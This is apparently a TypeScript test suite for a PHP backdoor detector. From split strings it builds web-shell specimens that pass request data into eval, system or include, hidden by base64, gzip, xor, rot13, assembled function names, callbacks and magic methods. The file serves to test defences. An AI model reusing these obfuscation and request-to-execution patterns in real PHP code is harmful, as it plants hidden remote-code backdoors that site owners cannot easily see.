import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

// Specimens are put together here from harmless pieces, so that no file of this repository holds one.
const OPEN = ['<', '?php '].join('');
const RUN = ['ev', 'al'].join('');
const SHELL = ['sys', 'tem'].join('');
const CHECK = ['ass', 'ert'].join('');
const POST = ['$_P', 'OST'].join('');
const GET = ['$_G', 'ET'].join('');
const INNER = `${RUN}(${POST}['a']);`;
/** What an honest file may hide: nothing of it runs anything. */
const HARMLESS = 'Copyright (c) the authors of this theme, all rights reserved by them';

const base64 = (text: string | Buffer): string => Buffer.from(text as string, 'latin1').toString('base64');
const letters = (text: string): string[] => text.split('');
const codes = (text: string): number[] => letters(text).map((letter) => letter.charCodeAt(0));
const quoted = (text: string): string => `'${text.replaceAll(/[\\']/g, '\\$&')}'`;
const shifted = (text: string, by: number): string =>
  codes(text)
    .map((code) => String.fromCharCode(code + by))
    .join('');
const xored = (text: string, key: string): string =>
  codes(text)
    .map((code, at) => String.fromCharCode(code ^ key.charCodeAt(at % key.length)))
    .join('');
const rotated = (text: string): string =>
  text.replaceAll(/[a-z]/gi, (letter) => {
    const base = letter < 'a' ? 0x41 : 0x61;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });

function grave(code: string): string[] {
  return judge(followFlow(OPEN + code))
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule, severity }) => `${rule} ${severity}`);
}

/** PHP that gives back the text, each time hidden in another way. */
const HIDING: readonly [string, (text: string) => string][] = [
  ['base64', (text) => `base64_decode('${base64(text)}')`],
  ['rot13', (text) => `str_rot13(${quoted(rotated(text))})`],
  ['deflate', (text) => `gzinflate(base64_decode('${base64(deflateRawSync(text))}'))`],
  ['zlib', (text) => `gzuncompress(base64_decode('${base64(deflateSync(text))}'))`],
  ['gzip', (text) => `gzdecode(base64_decode('${base64(gzipSync(text))}'))`],
  ['hex2bin', (text) => `hex2bin('${Buffer.from(text).toString('hex')}')`],
  ['pack of hex', (text) => `pack('H*', '${Buffer.from(text).toString('hex')}')`],
  ['pack of codes', (text) => `pack('C*', ${codes(text).join(',')})`],
  [
    'percent signs',
    (text) =>
      `urldecode('${codes(text)
        .map((code) => `%${code.toString(16)}`)
        .join('')}')`,
  ],
  ['reversal', (text) => `strrev(${quoted(letters(text).toReversed().join(''))})`],
  [
    'hex escapes',
    (text) =>
      `"${codes(text)
        .map((code) => `\\x${code.toString(16)}`)
        .join('')}"`,
  ],
  [
    'octal escapes',
    (text) =>
      `"${codes(text)
        .map((code) => `\\${code.toString(8)}`)
        .join('')}"`,
  ],
  [
    'code points',
    (text) =>
      `"${codes(text)
        .map((code) => `\\u{${code.toString(16)}}`)
        .join('')}"`,
  ],
  [
    'chr',
    (text) =>
      codes(text)
        .map((code) => `chr(${code})`)
        .join('.'),
  ],
  ['pieces', (text) => letters(text).map(quoted).join('.')],
  ['implode of a map', (text) => `implode('', array_map('chr', array(${codes(text).join(',')})))`],
  ['xor with a constant', (text) => `(base64_decode('${base64(xored(text, 'k'))}') ^ str_repeat('k', ${text.length}))`],
  ['str_replace', (text) => `str_replace('#', '', ${quoted(letters(text).join('#'))})`],
  [
    'str_replace of lists',
    (text) => `str_replace(array('#', '%'), array('', ''), ${quoted(letters(text).join('#%'))})`,
  ],
  ['strtr of texts', (text) => `strtr(${quoted(text.replaceAll('a', '#'))}, '#', 'a')`],
  ['strtr of a map', (text) => `strtr('#', array('#' => ${quoted(text)}))`],
  ['substr', (text) => `substr(${quoted(`xx${text}yy`)}, 2, ${text.length})`],
  [
    'layers',
    (text) => `base64_decode(str_rot13('${rotated(base64(base64(text)))}'))`.replace(/^/, 'base64_decode(').concat(')'),
  ],
  ['a heredoc', (text) => `<<<'X'\n${text}\nX\n`],
  [
    'bits turned over',
    (text) =>
      `~base64_decode('${base64(
        codes(text)
          .map((code) => String.fromCharCode(~code & 255))
          .join(''),
      )}')`,
  ],
];

describe('code that is hidden and run', () => {
  it.each(HIDING)('is read through %s', (_, hide) => {
    expect(grave(`${RUN}(${hide(INNER)});`)).toContain('php.request-to-code critical');
  });

  it.each(HIDING)('is no alarm when a text is hidden by %s and shown', (_, hide) => {
    expect(grave(`echo ${hide(HARMLESS)};`)).toEqual([]);
  });

  it.each([
    [
      'for with xor',
      `$d = base64_decode('${base64(xored(INNER, 'key'))}'); $k = 'key'; $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }`,
    ],
    [
      'for with ord and chr',
      `$d = ${quoted(shifted(INNER, 1))}; $o = ''; for ($i = 0; $i < strlen($d); $i++) $o .= chr(ord($d[$i]) - 1);`,
    ],
    ['foreach over a map', `$o = ''; foreach (array(${codes(INNER).join(',')}) as $c) $o .= chr($c);`],
    [
      'while over a map',
      `$m = array(${codes(INNER).join(',')}); $o = ''; $i = 0; while ($i < count($m)) { $o .= chr($m[$i]); $i++; }`,
    ],
    ['explode', `$o = ''; foreach (explode('|', '${codes(INNER).join('|')}') as $c) $o .= chr((int) $c);`],
    [
      'str_split',
      `$o = ''; foreach (str_split('${Buffer.from(INNER).toString('hex')}', 2) as $h) $o .= chr(hexdec($h));`,
    ],
    [
      'a function of the file',
      `function o($x) { return base64_decode(strrev($x)); } $o = o('${letters(base64(INNER)).toReversed().join('')}');`,
    ],
    [
      'a generator',
      `function g() { yield ${quoted(INNER.slice(0, 5))}; yield ${quoted(INNER.slice(5))}; } $o = ''; foreach (g() as $p) $o .= $p;`,
    ],
    ['goto', `goto a; b: $o = base64_decode($o); goto c; a: $o = '${base64(INNER)}'; goto b; c:`],
  ])('is read through a loop or a jump: %s', (_, decode) => {
    expect(grave(`${decode} ${RUN}($o);`)).toContain('php.request-to-code critical');
    expect(grave(`${decode} echo strlen($o);`)).toEqual([]);
  });

  it('is read behind and inside of loops that only a jump ends', () => {
    const spin = '$n = 5; while ($n > 0) { work($n); } for (;;) { work(1); } while (true) { $m = 2; } ';
    expect(followFlow(`${OPEN}${spin}${INNER}`).steps).toBeLessThan(500);
    expect(grave(spin + INNER)).toContain('php.request-to-code critical');
    const d = quoted(shifted(INNER, 1));
    const decode = `$d = ${d}; $o = ''; $i = 0; while (true) { if ($i >= strlen($d)) break; $o .= chr(ord($d[$i]) - 1); $i++; }`;
    expect(grave(`${decode} ${RUN}($o);`)).toContain('php.request-to-code critical');
    expect(grave(`${decode.replace('while (true)', 'for (;;)')} ${RUN}($o);`)).toContain(
      'php.request-to-code critical',
    );
  });

  it('is read through a loop over a long text, one character after the other', () => {
    const long = `${INNER}${'//'.padEnd(30_000, 'x')}`;
    const decode = `$d = ${quoted(shifted(long, 1))}; $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord(substr($d, $i, 1)) - 1); }`;
    expect(grave(`${decode} ${RUN}($o);`)).toContain('php.request-to-code critical');
  });

  it('is judged again at each layer, as deep as it may go', () => {
    let code = INNER;
    for (let layer = 0; layer < 8; layer += 1)
      code = `${RUN}(gzinflate(base64_decode('${base64(deflateRawSync(code))}')));`;
    expect(grave(code)).toContain('php.request-to-code critical');
  });
});

describe('a function whose name is put together', () => {
  it.each([
    ['letters of an alphabet', "$a = 'abcdefghijklmnopqrstuvwxyz'; $f = $a[18].$a[24].$a[18].$a[19].$a[4].$a[12];"],
    ['sprintf', "$f = sprintf('%s%s', 'sys', 'tem');"],
    ['entries of a map', "$m = array('x' => 'sys', 'y' => 'tem'); $f = $m['x'] . $m['y'];"],
    ['implode of a reversed list', "$f = implode('', array_reverse(array('tem', 'sys')));"],
    ['lower case', "$f = strtolower('SYSTEM');"],
    ['counting a letter on', "$a = 'r'; $a++; $f = $a . 'ystem';"],
    ['another base', '$f = base_convert(1751504350, 10, 36);'],
    ['a constant', "define('F', 'sys'); $f = F . 'tem';"],
    ['a constant of a class', "class A { const F = 'sys'; } $f = A::F . 'tem';"],
    ['a static field', "class A { public static $f = 'sys'; } $f = A::$f . 'tem';"],
    ['fields of a query string', "parse_str('f=sys&g=tem', $q); $f = $q['f'] . $q['g'];"],
    ['list()', "list($f, $g) = array('sys', 'tem'); $f .= $g;"],
    ['match', "$f = 'sys' . match (true) { default => 'tem' };"],
  ])('is known: %s', (_, make) => {
    expect(grave(`${make} $f(${POST}['a']);`)).toContain('php.request-to-command critical');
    expect(grave(`${make} if ($f == ${POST}['a']) echo 'same';`)).toEqual([]);
  });
});

describe('ways to call', () => {
  it.each([
    ['a variable', `$f = '${SHELL}'; $f(@)`],
    ['a text', `'${SHELL}'(@)`],
    ['a name in brackets', `(${SHELL})(@)`],
    ['a namespace', `namespace n; \\${SHELL}(@)`],
    ['another case', `${SHELL.toUpperCase()}(@)`],
    ['a comment between', `${SHELL}/* */(@)`],
    ['an imported name', `use function ${SHELL} as show; show(@)`],
    ['a callable of PHP 8.1', `$f = ${SHELL}(...); $f(@)`],
    ['the pipe of PHP 8.5', `@ |> ${SHELL}(...)`],
    ['an unpacked list', `$l = array(@); ${SHELL}(...$l)`],
    ['array_map', `array_map('${SHELL}', array(@))`],
    ['array_walk', `$l = array(@); array_walk($l, '${SHELL}')`],
    ['array_filter', `array_filter(array(@), '${SHELL}')`],
    ['array_reduce', `array_reduce(array(@), '${SHELL}')`],
    ['usort', `$l = array(@, 1); usort($l, '${SHELL}')`],
    ['call_user_func', `call_user_func('${SHELL}', @)`],
    ['call_user_func_array', `call_user_func_array('${SHELL}', array(@))`],
    ['register_shutdown_function', `register_shutdown_function('${SHELL}', @)`],
    ['preg_replace_callback', `preg_replace_callback('/.*/', '${SHELL}', @)`],
    ['a closure', `$f = function ($x) { ${SHELL}($x); }; $f(@)`],
    ['an arrow function', `$f = fn($x) => ${SHELL}($x); $f(@)`],
    ['a static method', `class A { static function r($x) { ${SHELL}($x); } } call_user_func('A::r', @)`],
    ['a method in a list', `class A { function r($x) { ${SHELL}($x); } } call_user_func(array(new A, 'r'), @)`],
    ['__call', `class A { function __call($n, $a) { ${SHELL}($a[0]); } } $a = new A; $a->any(@)`],
    ['__get', `class A { function __get($n) { ${SHELL}($n); } } $a = new A; $a->{@}`],
    ['__invoke', `class A { function __invoke($x) { ${SHELL}($x); } } $a = new A; $a(@)`],
    ['__toString', `class A { function __toString() { return ${SHELL}(@); } } echo new A`],
    ['a destructor', `class A { public $x; function __destruct() { ${SHELL}($this->x); } } $a = new A; $a->x = @`],
    ['an anonymous class', `(new class { function r($x) { ${SHELL}($x); } })->r(@)`],
    ['reflection', `(new ReflectionFunction('${SHELL}'))->invoke(@)`],
    ['a parameter by reference', `function f(&$x) { $x = @; } f($c); ${SHELL}($c)`],
    ['a global variable', `function f() { global $c; ${SHELL}($c); } $c = @; f()`],
    ['a static variable', `function f($x = null) { static $k; if ($x) $k = $x; else ${SHELL}($k); } f(@); f()`],
    ['an exception', `try { throw new Exception(@); } catch (Exception $e) { ${SHELL}($e->getMessage()); }`],
    ['an iterator', `foreach (new ArrayIterator(array(@)) as $c) ${SHELL}($c)`],
    ['compact and extract', `$c = @; extract(compact('c')); ${SHELL}($c)`],
    ['a template', `$x = "{\${${SHELL}(@)}}"`],
  ])('lead from the request to a command: %s', (_, call) => {
    expect(grave(`${call.replaceAll('@', `${POST}['a']`)};`)).toContain('php.request-to-command critical');
    expect(grave(`${call.replaceAll('@', "'uptime'")};`).filter((rule) => rule.startsWith('php.request'))).toEqual([]);
  });

  it.each([
    ['preg_replace with e', `preg_replace('/.*/e', @, '.')`, `preg_replace('/.*/', @, '.')`],
    ['a hidden e', `preg_replace("/.*/\\x65", @, '.')`, `preg_replace("/.*/\\x69", @, '.')`],
    ['what the pattern finds', `preg_replace('/(.*)/e', '\\\\1', @)`, `preg_replace('/(.*)/', '\\\\1', @)`],
    ['mb_ereg_replace with e', `mb_ereg_replace('.*', @, '', 'e')`, `mb_ereg_replace('.*', @, '', 'i')`],
    ['create_function', `create_function('', @)`, `create_function('', 'return 1;')`],
    ['assert', `${CHECK}(@)`, `${CHECK}(is_string(@))`],
    ['extract', `extract(${POST}); ${RUN}($code)`, `extract(${POST}); echo $code`],
    ['a variable variable', `$n = '_PO' . 'ST'; ${RUN}($$n['a'])`, `$n = 'a'; echo $$n`],
    ['a computed name', `${RUN}(\${'_PO' . 'ST'}['a'])`, `echo \${'a' . 'b'}`],
    ['$GLOBALS', `${RUN}($GLOBALS['_POST']['a'])`, `echo $GLOBALS['a']`],
    [
      'an unserialized object',
      `class A { public $c; function __destruct() { ${RUN}($this->c); } } unserialize(@)`,
      'unserialize(@)',
    ],
  ])('lead from the request to code: %s', (_, positive, negative) => {
    expect(grave(`${positive.replaceAll('@', `${POST}['a']`)};`)).toContain('php.request-to-code critical');
    expect(grave(`${negative.replaceAll('@', `${POST}['a']`)};`)).toEqual([]);
  });

  it('choose a function, a class or a method by the request', () => {
    expect(grave(`${POST}['f'](${POST}['a']);`)).toContain('php.request-chooses-call critical');
    expect(grave(`$c = ${GET}['c']; new $c(${POST}['a']);`)).toContain('php.request-chooses-call critical');
    expect(grave(`$m = array('a' => 'show'); $f = $m[${GET}['f']]; $f(${POST}['a']);`)).toEqual([]);
  });
});

describe('sources', () => {
  it.each([
    ['a field', `${POST}['a']`, 'php.request-to-code critical'],
    ['a cookie', "$_COOKIE['a']", 'php.request-to-code critical'],
    ['any field', "$_REQUEST['a']", 'php.request-to-code critical'],
    ['a header of its own', "$_SERVER['HTTP_X_CODE']", 'php.request-to-code critical'],
    ['all headers', "getallheaders()['X']", 'php.request-to-code critical'],
    ['the body', "file_get_contents('php://input')", 'php.request-to-code critical'],
    ['the name of an upload', "$_FILES['f']['name']", 'php.request-to-code critical'],
    ['old PHP', "$HTTP_POST_VARS['a']", 'php.request-to-code critical'],
    ['filter_input', "filter_input(INPUT_POST, 'a')", 'php.request-to-code critical'],
    ['the browser', "$_SERVER['HTTP_USER_AGENT']", 'php.header-to-code critical'],
    ['the session', "$_SESSION['a']", 'php.hidden-code high'],
    ['a file', "file_get_contents('cache.txt')", 'php.file-to-code high'],
    ['the script itself', 'substr(file_get_contents(__FILE__), 200)', 'php.own-text-to-code high'],
    ['a database', "mysql_fetch_array($r)['code']", 'php.file-to-code high'],
    ['a database object', "$db->query('select c from t')->fetch_assoc()['c']", 'php.file-to-code high'],
    ['another server', "file_get_contents('http://a.example.test')", 'php.remote-to-code critical'],
    ['a transfer', "curl_exec(curl_init('http://a.example.test'))", 'php.remote-to-code critical'],
    ['a socket', "fgets(fsockopen('a.example.test', 80))", 'php.remote-to-code critical'],
    [
      'data in an address',
      `file_get_contents('data:text/plain;base64,${base64(INNER)}')`,
      'php.request-to-code critical',
    ],
  ])('are followed: %s', (_, source, rule) => {
    expect(grave(`${RUN}(${source});`)).toContain(rule);
    expect(grave(`$x = strlen(${source}); if ($x > 3) echo 'long';`)).toEqual([]);
  });
});

const RUNNERS = ['system', 'exec', 'shell_exec', 'passthru', 'pcntl_exec'].map((name): [string, string, string] => [
  name,
  `${name}(@);`,
  'php.request-to-command critical',
]);

describe('sinks', () => {
  it.each([
    ...RUNNERS,
    ['popen', "popen(@, 'r');", 'php.request-to-command critical'],
    ['proc_open', 'proc_open(@, array(), $p);', 'php.request-to-command critical'],
    ['backticks', '$c = @; echo `$c`;', 'php.request-to-command critical'],
    ['a COM object', "$w = new COM('WScript.Shell'); $w->exec(@);", 'php.request-to-command critical'],
    ['options of mail', "mail('a', 'b', 'c', 'd', @);", 'php.request-to-command critical'],
    ['include', 'include @;', 'php.request-include high'],
    ['include of an upload', "include $_FILES['f']['tmp_name'];", 'php.request-include critical'],
    ['include of the body', "include 'php://input';", 'php.request-include critical'],
    ['include of data', "include 'data:text/plain,' . @;", 'php.request-include critical'],
    [
      'include through a filter',
      "include 'php://filter/convert.base64-decode/resource=' . @;",
      'php.request-include high',
    ],
    ['include of another server', "include 'http://a.example.test/x.txt';", 'php.remote-include high'],
    [
      'include of encoded data',
      `include 'data:text/plain;base64,${base64(OPEN + INNER)}';`,
      'php.request-to-code critical',
    ],
    ['file_put_contents', `file_put_contents(${GET}['f'], @);`, 'php.request-to-file high'],
    ['fwrite', `$h = fopen(${GET}['f'], 'w'); fwrite($h, @);`, 'php.request-to-file high'],
    ['copy', `copy(@, ${GET}['f']);`, 'php.request-to-file high'],
    [
      'a temporary file that is included',
      "$t = tempnam('/tmp', 'x'); file_put_contents($t, @); include $t;",
      'php.plants-and-runs high',
    ],
    [
      'move_uploaded_file',
      "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
      'php.open-upload high',
    ],
    ['mail', `mail(${GET}['to'], 'a', @);`, 'php.open-mailer high'],
    [
      'echo of another server',
      "echo file_get_contents('http://a.example.test/?' . $_SERVER['HTTP_HOST']);",
      'php.remote-output high',
    ],
  ])('are noted: %s', (_, code, rule) => {
    expect(grave(code.replaceAll('@', `${POST}['a']`))).toContain(rule);
  });

  it.each([
    ['a command with a quoted argument', 'exec("convert " . escapeshellarg(@));'],
    ['a number in a command', 'exec("kill " . (int) @);'],
    ['a file of the site', "include __DIR__ . '/header.php';"],
    ['an allowed file', "$m = array('a' => 'a.php'); include $m[@];"],
    ['a log', "file_put_contents('log.txt', date('c') . ' seen');"],
    ['a form to the owner', "mail(get_option('admin_email'), 'Contact', @);"],
    [
      'a guarded upload',
      "if (current_user_can('upload')) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);",
    ],
    ['a temporary file of its own', "$t = tempnam('/tmp', 'x'); file_put_contents($t, 'a'); unlink($t);"],
    ['a page of another server that is only counted', "echo strlen(file_get_contents('http://a.example.test/'));"],
  ])('are no alarm by themselves: %s', (_, code) => {
    expect(grave(code.replaceAll('@', `${POST}['a']`))).toEqual([]);
  });
});
